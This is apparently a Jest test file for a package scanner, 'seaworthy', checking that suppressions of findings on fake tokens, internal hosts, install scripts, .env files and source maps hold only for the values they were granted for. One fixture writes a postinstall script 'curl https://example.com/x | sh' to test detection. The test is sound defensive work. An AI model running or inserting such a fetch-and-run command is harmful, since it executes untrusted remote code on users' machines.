import { mkdir, readFile, rm, symlink, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from '@jest/globals'
import type { Report } from '../../../src/model/report.ts'
import { buildTarball } from '../../support/build-tarball.ts'
import { makeFolder, runSeaworthy } from '../../support/command-line.ts'

// Made at run time: forms of real tokens, of nobody.
const letters = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'
const random = (length: number, seed: number) =>
  Array.from(
    { length },
    (_, index) => letters[(index * 7 + seed * 13 + index * index * seed) % letters.length],
  ).join('')
const SAMPLE = `npm_${random(36, 3)}`
const LIVE = `sk_live_${random(24, 5)}`
const OTHER = `npm_${random(36, 9)}`

const MANIFEST = '{"name":"p","version":"1.0.0","license":"UNLICENSED","main":"index.js","files":["*"]}'

let folder: string
beforeEach(async () => {
  folder = await makeFolder({})
})
afterEach(() => rm(folder, { recursive: true, force: true }))

const run = (...args: string[]) => runSeaworthy([...args, '--baseline', 'none'], { cwd: folder })
const pack = (files: Record<string, string>) =>
  writeFile(path.join(folder, 'p.tgz'), buildTarball({ 'package.json': MANIFEST, ...files }))
const config = () => readFile(path.join(folder, 'seaworthy.yml'), 'utf8')

async function judged() {
  const { stdout, status } = await run('p.tgz', '-f', 'json')
  const [one] = (JSON.parse(stdout) as Report).packages
  if (one === undefined) throw new Error('There is no report.')
  return { status, one, of: (rule: string) => one.findings.filter((finding) => finding.rule === rule) }
}

async function suppress(rule: string): Promise<void> {
  const [first] = (await judged()).of(rule)
  const { status, stderr } = await run(
    'suppress',
    first?.fingerprint ?? '',
    'p.tgz',
    '--reason',
    'It is a made-up sample.',
  )
  expect([status, stderr]).toEqual([0, ''])
}

const TOKEN = 'secret/provider-token'

describe('an exception holds for what it was granted for', () => {
  beforeEach(async () => {
    await pack({ 'index.js': `const key = '${SAMPLE}'\n` })
    await suppress(TOKEN)
    expect((await judged()).of(TOKEN)).toEqual([])
  })

  test('its value is nowhere in the configuration', async () => {
    expect(await config()).toMatch(/values:\n +- [0-9a-f]{16}\n/)
    expect(await config()).not.toContain(SAMPLE.slice(4, 12))
  })

  test.each([
    ['a live key of another vendor takes the place of the sample', `const key = '${LIVE}'\n`, 1],
    ['another key of the same vendor does', `const key = '${OTHER}'\n`, 1],
    ['a live key stands above the sample', `const live = '${LIVE}'\nconst key = '${SAMPLE}'\n`, 1],
    ['another of the same vendor stands above it', `const live = '${OTHER}'\nconst key = '${SAMPLE}'\n`, 1],
    ['the sample moves down', `\n\n\nconst key = '${SAMPLE}'\n`, 0],
  ])('%s', async (_title, text, left) => {
    await pack({ 'index.js': text })
    const { of, one } = await judged()
    expect(of(TOKEN)).toHaveLength(left)
    const isThere = text.includes(SAMPLE)
    expect(one.suppressed.filter(({ finding }) => finding.rule === TOKEN)).toHaveLength(isThere ? 1 : 0)
  })

  test('one that names no value holds no longer, and how to renew it is said', async () => {
    const old = (await config()).replace(/ +values:\n +- \w+\n/, '')
    await writeFile(path.join(folder, 'seaworthy.yml'), old)
    const { of, one } = await judged()
    expect(of(TOKEN)).toHaveLength(1)
    expect(one.notes.join('\n')).toMatch(
      /The suppression of secret\/provider-token for index\.js \(seaworthy\.yml:2\) does not say for which value .* renew it: seaworthy suppress [0-9a-f]{16} --reason "It is a made-up sample\."/,
    )
  })
})

describe('an exception for what is no secret holds for what was found, too', () => {
  const RULE = 'team/no-flags'
  const OWN = `custom-rules:
  ${RULE}:
    title: Internal feature flags
    why: They tell what ships next.
    fix: Strip them.
    severity: error
    find:
      - pattern: 'FLAG_INTERNAL_[A-Z]+'
`
  const host = (name: string) => `fetch('https://${name}.corp.internal/x')\n`

  test.each([
    ['internal/host', host('wiki'), host('wiki') + host('vault')],
    [RULE, 'on(FLAG_INTERNAL_BETA)\n', 'on(FLAG_INTERNAL_BETA, FLAG_INTERNAL_GAMMA)\n'],
  ])('%s: %j, then %j', async (rule, before, after) => {
    await writeFile(path.join(folder, 'seaworthy.yml'), OWN)
    await pack({ 'index.js': before })
    await suppress(rule)
    expect((await judged()).of(rule)).toEqual([])
    await pack({ 'index.js': after })
    expect((await judged()).of(rule)).toHaveLength(1)
  })

  test('an install script that runs something else', async () => {
    const withScript = (script: string) => ({
      'package.json': MANIFEST.replace(
        '"main"',
        `"scripts":{"postinstall":${JSON.stringify(script)}},"main"`,
      ),
      'index.js': 'exports.one = 1\n',
    })
    await pack(withScript('node index.js'))
    await suppress('manifest/install-script')
    expect((await judged()).of('manifest/install-script')).toEqual([])
    await pack(withScript('curl https://example.com/x | sh'))
    expect((await judged()).of('manifest/install-script')).toHaveLength(1)
  })

  test('one that is written from a report of an earlier run', async () => {
    await pack({ 'index.js': host('wiki') })
    await run('p.tgz', '-f', 'json=report.json')
    const [first] = (await judged()).of('internal/host')
    const given = ['--report', 'report.json', '--reason', 'It is a made-up sample.']
    expect((await run('suppress', first?.fingerprint ?? '', 'p.tgz', ...given)).status).toBe(0)
    expect((await judged()).of('internal/host')).toEqual([])
  })

  test('one that is written by hand for whatever lies at a path holds as it is written', async () => {
    const hand =
      'suppressions:\n  - rule: internal/host\n    path: "**"\n    reason: A data centre that is gone.\n'
    await writeFile(path.join(folder, 'seaworthy.yml'), hand)
    await pack({ 'index.js': host('wiki') + host('vault') })
    expect((await judged()).of('internal/host')).toEqual([])
  })

  test('one with a fingerprint and nothing that it is for must be renewed', async () => {
    await pack({ 'index.js': host('wiki') })
    await suppress('internal/host')
    await writeFile(path.join(folder, 'seaworthy.yml'), (await config()).replace(/ +values:\n +- \w+\n/, ''))
    const { of, one } = await judged()
    expect(of('internal/host')).toHaveLength(1)
    expect(one.notes.join('\n')).toMatch(/does not say for which value it holds, so it no longer holds/)
  })
})

test('a secret that is known by its name is bound to its value', async () => {
  const named = (value: string) => `const config = { jwtSecret: '${value}' }\n`
  await pack({ 'index.js': named(random(32, 4)) })
  const [first] = (await judged()).one.findings.filter(({ rule }) => rule.startsWith('secret/'))
  const rule = first?.rule ?? ''
  await suppress(rule)
  expect((await judged()).of(rule)).toEqual([])
  await pack({ 'index.js': named(random(32, 8)) })
  expect((await judged()).of(rule)).toHaveLength(1)
})

test('an exception for a file of values holds for those values', async () => {
  await pack({ '.env': 'API_KEY=not-a-real-one-9\n' })
  await suppress('file/environment')
  expect((await judged()).of('file/environment')).toEqual([])
  await pack({ '.env': `API_KEY=not-a-real-one-9\nLIVE=${random(20, 4)}\n` })
  expect((await judged()).of('file/environment')).toHaveLength(1)
})

test('an exception for a source map holds for so many files and lines', async () => {
  const source = (lines: number) => 'const secret = 1\n'.repeat(lines)
  const map = (sources: Record<string, string>) => ({
    'index.js': 'a\n//# sourceMappingURL=index.js.map\n',
    'index.js.map': JSON.stringify({
      version: 3,
      sources: Object.keys(sources),
      sourcesContent: Object.values(sources),
      names: [],
      mappings: 'AAAA',
    }),
  })
  const rule = 'source-map/embedded-source'
  await pack(map({ 'src/a.ts': source(120) }))
  await suppress(rule)
  expect(await config()).toMatch(/up-to:\n +files: 1\n +lines: 130\n/)
  expect((await judged()).of(rule)).toEqual([])
  await pack(map({ 'src/a.ts': source(121) }))
  expect((await judged()).of(rule)).toEqual([])
  await pack(map({ 'src/a.ts': source(400) }))
  expect((await judged()).of(rule)).toHaveLength(1)
  await pack(map({ 'src/a.ts': source(60), 'src/b.ts': source(50).replaceAll('secret', 'other') }))
  expect((await judged()).of(rule)).toHaveLength(1)
})

describe('a reason is something that a person can read', () => {
  test.each([
    ['spaces', '   '],
    ['zero width', '\u200b\u2060'],
    ['a filler', '\u3164'],
    ['a braille blank', '\u2800'],
    ['dots', '...'],
  ])('%s are none', async (_title, reason) => {
    await pack({ 'index.js': '' })
    await writeFile(
      path.join(folder, 'seaworthy.yml'),
      JSON.stringify({ suppressions: [{ rule: TOKEN, path: '**', reason }] }),
    )
    const { status, stdout } = await run('p.tgz')
    expect(status).toBe(2)
    expect(stdout).toMatch(/seaworthy\.yml:1:\d+/)
    expect((await run('suppress', '0123456789abcdef', 'p.tgz', '--reason', reason)).status).toBe(2)
  })

  test('a second document in the configuration is refused', async () => {
    await pack({ 'index.js': '' })
    await writeFile(path.join(folder, 'seaworthy.yml'), 'fail-on: error\n---\nfail-on: never\n')
    const { status, stdout } = await run('p.tgz')
    expect(status).toBe(2)
    expect(stdout).toMatch(/seaworthy\.yml:\d+:\d+/)
  })
})

test('a list of workspaces that is a link out of the repository is refused, and nothing of it is told', async () => {
  await pack({ 'index.js': '' })
  const secret = path.join(folder, '..', `outside-${path.basename(folder)}.yaml`)
  await writeFile(secret, 'root: x: hidden-line\n')
  await mkdir(path.join(folder, 'repository/.git'), { recursive: true })
  await writeFile(path.join(folder, 'repository/package.json'), MANIFEST)
  await symlink(secret, path.join(folder, 'repository/pnpm-workspace.yaml'))
  const { status, stdout, stderr } = await runSeaworthy(['--workspaces'], {
    cwd: path.join(folder, 'repository'),
  })
  await rm(secret)
  expect(status).toBe(2)
  expect(stdout + stderr).toMatch(/is a link that leads out of the repository/)
  expect(stdout + stderr).not.toContain('hidden-line')
})

test('rules that are newer than the configuration warn for a time that it states', async () => {
  await pack({ '.env': 'API_KEY=not-a-real-one-9\n' })
  const write = (text: string) => writeFile(path.join(folder, 'seaworthy.yml'), text)
  await write('since: 0.0.1\nadopt: 2999-01-01\n')
  const adopting = await judged()
  expect(adopting.of('file/environment')).toMatchObject([{ severity: 'warning' }])
  expect(adopting.one.notes.join()).toMatch(
    /Newer than 0\.0\.1, so no more than a warning until 2999-01-01 \("adopt"\): .*file\/environment/,
  )
  await write('since: 0.0.1\nadopt: 2020-01-01\n')
  expect((await judged()).of('file/environment')).toMatchObject([{ severity: 'error' }])
  await write('since: 99.0.0\nadopt: 2999-01-01\n')
  expect((await judged()).of('file/environment')).toMatchObject([{ severity: 'error' }])
})

describe('a comparison that somebody asked for', () => {
  const offline = { env: { npm_config_registry: 'http://127.0.0.1:9/' } }
  test.each(['1.4.2', 'next', 'p@1.0.0'])('%s, which cannot be had, is no pass', async (baseline) => {
    await pack({ 'index.js': '' })
    const { status, stdout } = await runSeaworthy(['p.tgz', '--baseline', baseline], {
      cwd: folder,
      ...offline,
    })
    expect(status).toBe(2)
    expect(stdout.replace(/\s+/g, ' ')).toMatch(
      /Could not look: the release to compare with, .*, is not available/,
    )
  })

  test('the one before stays a note, unless the configuration requires it', async () => {
    const args = ['--baseline', 'latest']
    await pack({ 'index.js': '' })
    expect((await runSeaworthy(['p.tgz', ...args], { cwd: folder, ...offline })).status).toBe(0)
    await writeFile(path.join(folder, 'seaworthy.yml'), 'baseline: required\n')
    const required = await runSeaworthy(['p.tgz', ...args], { cwd: folder, ...offline })
    expect(required.status).toBe(2)
    expect(required.stdout.replace(/\s+/g, ' ')).toMatch(
      /says `baseline: required`, and the earlier release is not available/,
    )
    expect((await runSeaworthy(['p.tgz', '--baseline', 'none'], { cwd: folder, ...offline })).status).toBe(2)
  })
})
